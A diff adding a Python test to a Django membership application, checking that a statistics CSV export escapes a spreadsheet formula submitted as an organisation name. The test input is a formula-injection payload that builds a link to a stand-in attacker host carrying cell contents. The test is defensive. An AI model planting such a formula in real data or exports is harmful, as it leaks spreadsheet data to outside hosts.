@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import csv
 import datetime
 import gzip
+import io
 import re
 from pathlib import Path
 
@@ -387,3 +389,33 @@ def test_a_coordinator_neither_sees_nor_changes_who_coordinates(coordinator):
     response = client.post(reverse("members:coordinator_remove", args=[org.slug, user.pk]))
     assert response.status_code == 403
     assert has_role(user, Role.COORDINATOR, scope=org)
+
+
+def test_statistics_csv_guards_names_from_public_applications(secretariat):
+    from alyansa.members.services import (
+        Profile,
+        application_confirm,
+        application_submit,
+        membership_admit,
+    )
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    application, secret = application_submit(
+        profile=Profile(name=formula, country=make_country("PH")),
+        contact_name="Someone",
+        contact_email="someone@example.org",
+    )
+    application_confirm(secret=secret)
+    membership_admit(
+        organization=application.organization,
+        decided_by="Executive Committee",
+        acting_user=secretariat,
+    )
+    admitted_on = application.organization.membership.status_since
+    response = client_for(secretariat).get(
+        reverse("members:statistics_csv"),
+        {"start": admitted_on.isoformat(), "end": admitted_on.isoformat()},
+    )
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    joined = [row for row in rows if row[0] == "joined"]
+    assert [row[1] for row in joined] == ["'" + formula]
